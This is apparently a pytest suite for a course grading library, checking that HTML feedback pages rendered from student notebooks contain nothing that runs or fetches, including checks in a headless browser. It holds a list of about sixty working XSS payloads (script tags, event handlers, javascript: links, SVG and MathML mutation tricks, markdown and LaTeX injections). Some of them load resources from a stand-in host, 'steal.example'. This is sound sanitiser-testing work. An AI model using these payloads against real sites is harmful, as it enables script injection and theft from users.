"""Nothing that a student puts into a notebook runs in the feedback page, or makes it ask for anything."""

import base64
import re
import shutil
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course_lib.grading.feedback import render
from course_lib.grading.grades import Grades

CHROMIUM = next(
    (p for name in ("chromium", "chromium-browser", "google-chrome") if (p := shutil.which(name))), None
)
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-sync",
]
SPACES = ("http://www.w3.org/2000/svg", "http://www.w3.org/1998/Math/MathML")
FORBIDDEN = {
    *("script", "iframe", "object", "embed", "form", "input", "button", "base", "link", "frame", "frameset"),
    *("audio", "video", "source", "track", "template", "slot", "portal", "foreignobject", "image", "use"),
    *(
        "animate",
        "set",
        "animatetransform",
        "animatemotion",
        "annotation-xml",
        "noscript",
        "marquee",
        "dialog",
    ),
}
URL = "https://steal.example"
VECTORS = [
    "<script>steal()</script>",
    f"<script src={URL}/x.js></script>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    f"<img src={URL}/x.png>",
    '<img src="x` `<script>steal()</script>"` `>',
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:steal()'><text y=20>x</text></a></svg>",
    f"<svg><image href='{URL}/x.png'/><use href='data:image/svg+xml,<svg id=x onload=steal()>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.steal()</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<math href='javascript:steal()'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><script>steal()</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=steal()>'>",
    "<iframe src='javascript:steal()'></iframe>",
    f"<iframe src='{URL}'></iframe>",
    "<object data='data:text/html,<script>steal()</script>'></object>",
    f"<embed src='{URL}'>",
    f"<link rel=stylesheet href='{URL}/x.css'>",
    f"<style>@import '{URL}/x.css'; body {{ background: url({URL}/x.png) }}</style>",
    f"<p style='background:url({URL}/x.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<base href='{URL}/'>",
    "<body onload=steal()>",
    "<details open ontoggle=steal()><summary>x</summary></details>",
    "<input autofocus onfocus=steal()>",
    "<video><source onerror=steal()></video>",
    "<marquee onstart=steal()>x</marquee>",
    "<a href='javascript:steal()'>x</a><a href='jAvAsCrIpT&colon;steal()'>x</a>",
    "<a href='java\tscript:steal()'>x</a><a href='\x01javascript:steal()'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>x</a>",
    f"<form action='{URL}'><button>x</button></form>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<title></title><script>steal()</script>",
    "</pre></div></main></body></html><script>steal()</script>",
    "</style><script>steal()</script>",
    "--><script>steal()</script><!--",
    "]]><script>steal()</script><![CDATA[",
    "{{ 7 * 7 }}{% raw %}<script>steal()</script>",
    "[x](javascript:steal()) [x](JaVaScRiPt:steal()) [x](vbscript:steal()) <javascript:steal()>",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    f"![x]({URL}/x.png) ![x](x\" onerror=\"steal()) ![<script>]({URL})",
    f'[x]({URL} "title\' onmouseover=\'steal()")',
    f"[x]: {URL}\n\n[x] ![x][x]",
    "`</code><script>steal()</script>`",
    "```html\n</pre><script>steal()</script>\n```",
    "```<script>steal()</script>\nx\n```",
    "| <script>steal()</script> |\n|---|\n| <img src=x onerror=steal()> |",
    "$\\href{javascript:steal()}{x}$ $\\text{<script>steal()</script>}$",
    "$$\\style{x}{y}</math><script>steal()</script>$$",
    "$\\nosuch{<img src=x onerror=steal()>}$\n\n$$\n\\nosuch{<script>steal()</script>}\n$$",
    "$<img src=x onerror=steal()>$ $\"><script>steal()</script>$",
    "\ue0000\ue001<script>steal()</script>\ue000999\ue001",
    "\x1b]8;;javascript:steal()\x07x\x1b]8;;\x07",
    "<\x00script>steal()</script>",
    "+ADw-script+AD4-steal()+ADw-/script+AD4-",
]  # fmt: skip


def submission(text):
    """Cells with the same text wherever a student can put one."""
    answer = new_markdown_cell(text)
    answer.metadata["nbgrader"] = {"grade_id": "essay", "solution": True, "grade": True}
    code = new_code_cell(text)
    code.metadata["nbgrader"] = {"grade_id": "code", "solution": True, "grade": False}
    kinds = ("text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "x/y")
    shown = [new_output("display_data", data={kind: text}) for kind in kinds]
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + text.encode("utf-8", "replace")).decode()
    shown.append(new_output("display_data", data={"image/png": picture}))
    svg = f'<svg xmlns="{SPACES[0]}">{text}</svg>'
    shown.append(new_output("display_data", data={"image/svg+xml": svg}, metadata={text: {"width": text}}))
    own = new_code_cell(text, id="extra-1", outputs=shown)
    own.outputs.append(new_output("stream", name="stdout", text=text))
    own.outputs.append(new_output("error", ename=text, evalue=text, traceback=[text, text]))
    test = new_code_cell("# Public test\nassert True")
    test.metadata["nbgrader"] = {"grade_id": "test", "grade": True, "solution": False, "points": 1}
    test.outputs = [new_output("error", ename=text, evalue=text, traceback=[text])]
    mine = new_markdown_cell(text, id="extra-2", attachments={"x": {"image/svg+xml": text}})
    return [code, own, test, answer, mine]


def page(*texts):
    scores = {"essay": 1.0, "test": 0.0}
    nb = new_notebook()
    nb.cells = [cell for text in texts for cell in submission(text)]  # the ids are the same on purpose
    return render(nb, Grades(scores, {"essay": 2.0, "test": 1.0}), "task")


class Elements(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, attributes))


def complaints(html):
    """What in a page could run or fetch something."""
    found = []
    for tag, attributes in Elements(html).found:
        if tag in FORBIDDEN:
            found.append(tag)
        for name, value in attributes:
            value = value or ""
            fine = (
                (name == "src" and re.fullmatch(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/]+={0,2}", value))
                or (name == "href" and re.fullmatch(r"#cell-\d+", value))
                or (name == "xmlns" and value in SPACES)
                or (name in ("content", "http-equiv", "charset") and tag == "meta")
                or not re.search(r"^(src|href|style|xmlns|on|xlink|action|form|http|srcset|data)", name)
            )
            if not fine or (re.search(r"javascript:|https?:|//", value) and name not in ("xmlns", "src")):
                found.append(f"{tag} {name}={value[:60]}")
    return found


def test_the_checker_sees_what_it_is_there_for():
    assert complaints("<p onclick=x>") == ["p onclick=x"]
    assert complaints(f"<img src='{URL}'><script>")
    assert complaints("<a href='javascript:x'>")
    assert complaints(page("fine")) == []


@pytest.mark.parametrize("text", VECTORS)
def test_no_attack_leaves_anything_that_runs_or_fetches(text):
    assert complaints(page(text)) == []


MARKS = [*"<>\"'`&;/=$\\{}[]()!|*_~#- \n\t", "&lt;", "&#60;", "<!--", "-->", "$$", "```"]
PIECES = st.sampled_from([*VECTORS, *MARKS])


@settings(max_examples=60, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_no_mixture_of_attacks_leaves_anything_that_runs_or_fetches(text):
    assert complaints(page(text)) == []


def test_code_and_text_too_long_to_be_coloured_are_as_harmless():
    assert complaints(page("x = 1  # <img src=x onerror=steal()>\n" * 1_000)) == []


def test_the_pages_policy_allows_its_own_style_and_data_pictures_only():
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page("x"))[1]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_a_browser_finds_nothing_to_run_or_fetch_even_without_the_policy(browser, tmp_path):
    path = tmp_path / "page.html"
    for texts in (VECTORS, ["\n\n".join(VECTORS)]):
        path.write_text(page(*texts).replace("Content-Security-Policy", "nothing"), "utf-8")
        tab, requests, said = opened(browser, path)
        assert requests == [path.as_uri()]
        assert said == []
        assert tab.evaluate("document.scripts.length") == 0
        assert tab.evaluate(WALK) == []
        tab.close()


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_the_page_opens_offline_without_an_error_and_fits_in_light_and_dark(browser, tmp_path):
    path = tmp_path / "page.html"
    path.write_text(page("fine " * 40), "utf-8")
    tab, requests, said = opened(browser, path)
    assert (requests, said) == ([path.as_uri()], [])
    for scheme, width in (("light", 1100), ("dark", 390)):
        tab.emulate_media(color_scheme=scheme)
        tab.set_viewport_size({"width": width, "height": 800})
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert contrast(*tab.evaluate(COLOURS)) > 7
    tab.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        made = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield made
        made.close()


def opened(browser, path):
    """A tab on a file, what it asked for (pictures in the page itself left out), and what it said."""
    tab, requests, said = browser.new_page(), [], []
    tab.on("request", lambda r: r.url.startswith("data:image/png;base64,") or requests.append(r.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("dialog", lambda dialog: said.append("dialog"))
    tab.on("pageerror", lambda error: said.append(str(error)))
    tab.goto(path.as_uri())
    return tab, requests, said


COLOURS = "(s => [s.color, s.backgroundColor])(getComputedStyle(document.body))"
WALK = """[...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
  .filter(({name, value}) => /^on|^style$|^srcset$|^action$|^formaction$/i.test(name)
    || (/^(href|xlink:href|src)$/i.test(name) && !/^(#cell-|data:image[/](png|jpeg);base64,)/.test(value)))
  .map(({name, value}) => element.tagName + ' ' + name + '=' + value))"""


def contrast(one, other):
    """The WCAG contrast of two CSS colours, rgb(r, g, b)."""

    def luminance(colour):
        values = [int(v) / 255 for v in re.findall(r"\d+", colour)[:3]]
        linear = [v / 12.92 if v <= 0.04045 else ((v + 0.055) / 1.055) ** 2.4 for v in values]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    low, high = sorted([luminance(one), luminance(other)])
    return (high + 0.05) / (low + 0.05)
